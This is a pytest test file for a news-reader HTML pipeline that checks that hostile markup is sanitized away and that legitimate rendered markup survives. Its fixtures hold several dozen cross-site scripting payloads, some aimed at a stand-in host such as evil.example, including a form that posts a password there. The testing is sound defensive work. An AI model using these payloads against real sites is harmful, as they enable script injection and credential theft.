"""Hostile HTML through the whole pipeline: nothing dangerous reaches the reader, and the
sanitizer's allowlist removes nothing the renderer legitimately writes."""
from __future__ import annotations

import lxml.html
import pytest

from sourcelight.pipeline import annotate_page
from sourcelight.pipeline.attribution import attribute_article, summarize_sourcing
from sourcelight.pipeline.extract import extract_article
from sourcelight.pipeline.language import detect_language
from sourcelight.pipeline.options import PipelineOptions
from sourcelight.pipeline.render import render_reader
from sourcelight.pipeline.sanitize import sanitize_html
from sourcelight.pipeline.segment import split_sentences
from tests.conftest import FIXTURE_PAGES
from tests.server.security.dangerous import dangerous_markup

OPTIONS = PipelineOptions()
PROSE = ("The minister said on Tuesday that the bridge would reopen in May, according to officials. "
         "Critics say the repairs were rushed and the costs were hidden from the public, Reuters reported. ")

# Each payload sits inside a real article paragraph, so extraction keeps the text around it.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">the report</a>',
    '<a href="jav&#x09;ascript:alert(1)">the report</a>',
    '<a href="&#106;avascript:alert(1)">the report</a>',
    '<a href=" JaVaScRiPt:alert(1)">the report</a>',
    '<a href="vbscript:msgbox(1)">the report</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">the report</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="chart">',
    '<img src="javascript:alert(1)" alt="chart">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">styled</p>',
    '<form action="https://evil.example/steal"><input name="pw" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    '<template><script>alert(1)</script></template>',
    '<details open ontoggle=alert(1)><summary>more</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://ok.example/" onclick="alert(1)" target="_blank">the report</a>',
    '<link rel="import" href="https://evil.example/x.html">',
    "<xmp><script>alert(1)</script></xmp>",
    '<img srcset="javascript:alert(1) 1x" alt="chart">',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; written as text</p>',
    '<!--<script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
]


def _page(payload: str, title: str = "Bridge repairs") -> str:
    body = "".join(f"<p>{PROSE}</p>" for _ in range(3))
    return (f"<html><head><title>{title}</title></head><body><article><h1>{title}</h1>"
            f"<p>{PROSE}{payload} {PROSE}</p>{payload}{body}</article></body></html>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markup_in_the_page_never_reaches_the_reader(payload):
    article = annotate_page(_page(payload), "https://news.example/a")
    assert dangerous_markup(article.html) == []


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                                 "https://e.example/\"><script>alert(1)</script>"])
def test_hostile_page_url_never_becomes_a_dangerous_link(url):
    article = annotate_page(_page(""), url)
    assert dangerous_markup(article.html) == []


@pytest.mark.parametrize("title", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
                                   "&lt;svg onload=alert(1)&gt;"])
def test_hostile_title_is_text(title):
    # The page is a real article with a hostile title: it must be read, and the title kept as text.
    article = annotate_page(_page("", title=title), "https://news.example/a", title_hint=title)
    assert dangerous_markup(article.html) == []


def test_hostile_text_in_a_quoted_source_stays_text():
    source = '<img src=x onerror=alert(1)>'
    page = _page(f"<p>“The repairs were rushed,” said {source} Smith, a spokesman for the ministry.</p>")
    article = annotate_page(page, "https://news.example/a")
    assert dangerous_markup(article.html) == []


# -- Nothing legitimate is stripped --------------------------------------------------------------

def _structure(html: str) -> list[tuple]:
    """Elements, attributes and text, ignoring serialization details and the rel nh3 adds."""
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    out = []
    for element in root.iter():
        attrs = {k: v for k, v in element.attrib.items() if not (element.tag == "a" and k == "rel")}
        out.append((element.tag, tuple(sorted(attrs.items())), element.text or "", element.tail or ""))
    return out


def _raw_reader_html(page: str, url: str) -> str:
    article = extract_article(page, url, lang_hint=None, title_hint=None, options=OPTIONS)
    guess = detect_language(article.text, hint=article.lang_hint, forced=None)
    claims = attribute_article(article, split_sentences(article, guess.language), guess.language)
    return render_reader(article, claims, summarize_sourcing(claims, guess.language))


RICH_PAGE = f"""<html lang="en"><head><title>Rich page</title><meta name="author" content="Ann Writer">
<meta property="article:published_time" content="2024-03-01"></head><body><article>
<h1>Rich page</h1><p>{PROSE}<a href="https://source.example/report">the report</a> <em>stressed</em>
<strong>strong</strong></p><h2>A section</h2><p>{PROSE}</p><ul><li>{PROSE}</li><li>Second item.</li></ul>
<ol><li>First.</li><li>Second.</li></ol><blockquote><p>“We will reopen in May,” the mayor said.</p></blockquote>
<figure><img src="https://img.example/bridge.jpg" alt="The bridge"><figcaption>The bridge in May.</figcaption></figure>
<p>{PROSE}</p></article></body></html>"""


@pytest.mark.parametrize("slug", sorted(p.name for p in FIXTURE_PAGES.iterdir() if (p / "source.html").exists()) + ["rich"])
def test_sanitizer_strips_nothing_the_renderer_writes(slug):
    page = RICH_PAGE if slug == "rich" else (FIXTURE_PAGES / slug / "source.html").read_text(encoding="utf-8")
    raw = _raw_reader_html(page, f"https://news.example/{slug}")  # every fixture page is an article
    assert _structure(sanitize_html(raw)) == _structure(raw)


def test_every_allowed_attribute_of_the_markup_vocabulary_survives():
    from sourcelight.pipeline import markup

    for tag in sorted(markup.TAGS):
        attrs = sorted(markup.ATTRIBUTES.get(tag, frozenset()) | markup.ATTRIBUTES["*"])
        values = {"href": "https://a.example/", "src": "https://a.example/i.png"}
        html = f"<{tag} " + " ".join(f'{a}="{values.get(a, "v")}"' for a in attrs) + f">t</{tag}>"
        if tag == "img":
            html = html.replace(">t</img>", ">")
        wrapper = {"li": "ul", "figcaption": "figure"}.get(tag)
        if wrapper:
            html = f"<{wrapper}>{html}</{wrapper}>"
        assert _structure(sanitize_html(html)) == _structure(html), tag
